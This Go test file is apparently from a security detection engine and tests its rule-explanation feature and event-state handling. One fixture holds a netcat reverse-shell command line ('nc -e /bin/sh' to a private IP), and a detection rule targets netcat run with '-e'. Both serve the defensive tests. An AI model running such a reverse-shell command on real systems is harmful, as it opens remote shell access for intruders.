package engine

import (
	"context"
	"os"
	"path"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/explain"
	"github.com/vigil-sec/vigil/internal/testcheck"
)

// TestExplainCases runs testdata/explain/cases.yaml: events evaluated in order
// against one rule, the last explained.
func TestExplainCases(t *testing.T) {
	for _, tt := range testcheck.Cases[struct {
		Name    string           `yaml:"name"`
		Rule    string           `yaml:"rule"`
		Events  []map[string]any `yaml:"events"`
		Matched bool             `yaml:"matched"`
		Want    string           `yaml:"want"`
	}](t, "testdata/explain/cases.yaml") {
		t.Run(tt.Name, func(t *testing.T) {
			r, err := Parse("case.yaml", []byte(tt.Rule))
			if err != nil {
				t.Fatal(err)
			}
			var evs []event.Event
			for i, tree := range tt.Events {
				ev, err := event.FromTree(tree)
				if err != nil {
					t.Fatalf("event %d: %v", i, err)
				}
				if ev.Type == "" {
					ev.Type = r.Events[0]
				}
				evs = append(evs, ev)
			}
			x, err := ExplainEvents(r, evs)
			if err != nil {
				t.Fatal(err)
			}
			if x.Matched != tt.Matched {
				t.Errorf("matched = %v, want %v", x.Matched, tt.Matched)
			}
			if got := explain.Text(x); got != tt.Want {
				t.Errorf("explanation:\n%s\nwant:\n%s", got, tt.Want)
			}
		})
	}
}

// TestExplainAgreesWithMatch checks that explaining a node gives the outcome
// matching it gives, for every node of every shipped rule, on every fixture
// event of the pack and the benign mix.
func TestExplainAgreesWithMatch(t *testing.T) {
	eng := packEngine(t)
	events := benignMix()
	fsys := os.DirFS("../../rules")
	for _, r := range eng.Rules() {
		for _, f := range []string{MatchFixture, NoMatchFixture} {
			evs, err := ReadFixture(fsys, path.Join("testdata", r.Name, f), r.Events[0])
			if err != nil {
				continue // rules without fixtures are reported by the pack tests
			}
			events = append(events, evs...)
		}
	}
	var check func(t *testing.T, m matcher, ev *event.Event)
	check = func(t *testing.T, m matcher, ev *event.Event) {
		c := m.explain(ev)
		if c.Matched != m.match(ev) {
			t.Fatalf("event %s: node %s %s: explained %v, matched %v", ev.ID, c.Op, c.Path, c.Matched, !c.Matched)
		}
		var subs []matcher
		switch n := m.(type) {
		case andNode:
			subs = n
		case orNode:
			subs = n
		case notNode:
			subs = []matcher{n.m}
		}
		if len(subs) != len(c.Rules) {
			t.Fatalf("node %s: %d branches explained, %d in the rule", c.Op, len(c.Rules), len(subs))
		}
		for _, s := range subs {
			check(t, s, ev)
		}
	}
	checked := 0
	for _, r := range eng.Rules() {
		for i := range events {
			ev := &events[i]
			if contains(r.Events, ev.Type) {
				check(t, r.root, ev)
				checked++
			}
			if r.child != nil && contains(r.ChildEvents, ev.Type) {
				check(t, r.child, ev)
			}
		}
	}
	if checked < 1000 {
		t.Fatalf("only %d rule × event pairs checked", checked)
	}
}

// TestFixtureExplanation checks that a failing fixture says why: the rule's
// conditions on the event that did not fire it, or on the one that did.
func TestFixtureExplanation(t *testing.T) {
	r, err := Parse("nc.yaml", []byte(`
detection:
  event: NEW_PROCESS
  op: and
  rules:
    - op: ends with
      path: event/FILE_PATH
      value: /nc
    - op: contains
      path: event/COMMAND_LINE
      value: " -e "
response:
  - action: report
    name: nc
`))
	if err != nil {
		t.Fatal(err)
	}
	fsys := fstest.MapFS{
		"testdata/nc/match.yaml":   {Data: []byte("- event: {FILE_PATH: /bin/nc, COMMAND_LINE: nc -l 4444}\n")},
		"testdata/nc/nomatch.yaml": {Data: []byte("- event: {FILE_PATH: /bin/ls, COMMAND_LINE: ls}\n- event: {FILE_PATH: /bin/nc, COMMAND_LINE: nc -e /bin/sh 10.0.0.1}\n")},
	}
	res := RunFixtures(fsys, ".", []*Rule{r})
	if len(res) != 2 || res[0].Pass() || res[1].Pass() {
		t.Fatalf("results = %v, want both failed", res)
	}
	failed := res[0].Explanation.Detection.Decisive()
	if res[0].Explanation.Matched || len(failed) != 1 || failed[0].Path != "event/COMMAND_LINE" || failed[0].Actual != "nc -l 4444" {
		t.Errorf("match.yaml: decisive conditions %+v, want event/COMMAND_LINE with its value", failed)
	}
	if res[1].Index != 1 || !res[1].Explanation.Matched || len(res[1].Explanation.Detection.Decisive()) != 2 {
		t.Errorf("nomatch.yaml: index %d, explanation %+v, want event 1 matched on both conditions", res[1].Index, res[1].Explanation)
	}
}

// hiding is a State that is not an EventKeeper.
type hiding struct{ State }

// TestExplainWithoutKeeper checks that a state that keeps no events still
// explains, saying the earlier events were not kept.
func TestExplainWithoutKeeper(t *testing.T) {
	eng := engineOf(t, map[string]string{"web shell": webShell})
	st := hiding{NewMemoryState()}
	ctx := context.Background()
	parent, child := exec("s1", 10, 1, "/usr/sbin/nginx"), exec("s1", 11, 10, "/bin/sh")
	if _, err := eng.Process(ctx, &parent, st, fixtureEpoch, nil); err != nil {
		t.Fatal(err)
	}
	ms, err := eng.Process(ctx, &child, st, fixtureEpoch, nil)
	if err != nil || len(ms) != 1 {
		t.Fatalf("Process = %d matches, %v", len(ms), err)
	}
	x := ms[0].Explain()
	if !x.Matched || x.Child == nil || !x.Child.Matched || x.Detection != nil || len(x.Earlier) != 0 ||
		x.Note != "the parent process was not kept by the rule state" {
		t.Errorf("explanation = %+v", x)
	}
}

// TestMemoryStateKeptEvents checks EventKeeper on MemoryState: a bounded list
// with a fixed window, replaced by SetEvents, dropped by Reset and at expiry.
func TestMemoryStateKeptEvents(t *testing.T) {
	ctx := context.Background()
	st := NewMemoryState()
	t0 := fixtureEpoch
	ref := func(id string) explain.EventRef { return explain.EventRef{ID: id} }
	ids := func(at time.Time) []string {
		refs, err := st.KeptEvents(ctx, "k", at)
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, r := range refs {
			out = append(out, r.ID)
		}
		return out
	}
	for i, id := range []string{"a", "b", "c"} {
		if err := st.AddEvent(ctx, "k", ref(id), t0.Add(time.Duration(i)*time.Second), time.Minute, 2); err != nil {
			t.Fatal(err)
		}
	}
	if got := joinIDs(ids(t0.Add(10 * time.Second))); got != "b,c" {
		t.Errorf("kept: %q, want b,c (at most 2, the oldest dropped)", got)
	}
	if got := ids(t0.Add(time.Minute)); got != nil {
		t.Errorf("kept at the end of the window: %v, want none (the window started with a)", got)
	}
	if err := st.AddEvent(ctx, "k", ref("d"), t0.Add(2*time.Minute), time.Minute, 2); err != nil {
		t.Fatal(err)
	}
	if got := joinIDs(ids(t0.Add(2 * time.Minute))); got != "d" {
		t.Errorf("kept after the window: %q, want d", got)
	}
	if err := st.SetEvents(ctx, "k", []explain.EventRef{ref("e")}, t0.Add(3*time.Minute), time.Hour); err != nil {
		t.Fatal(err)
	}
	if got := joinIDs(ids(t0.Add(30 * time.Minute))); got != "e" {
		t.Errorf("after SetEvents: %q, want e", got)
	}
	if err := st.Reset(ctx, "k"); err != nil {
		t.Fatal(err)
	}
	if got := ids(t0.Add(3 * time.Minute)); got != nil {
		t.Errorf("after Reset: %v", got)
	}
	if st.Len() != 0 {
		t.Errorf("Len = %d after Reset, want 0", st.Len())
	}
}

func joinIDs(ids []string) string { return strings.Join(ids, ",") }
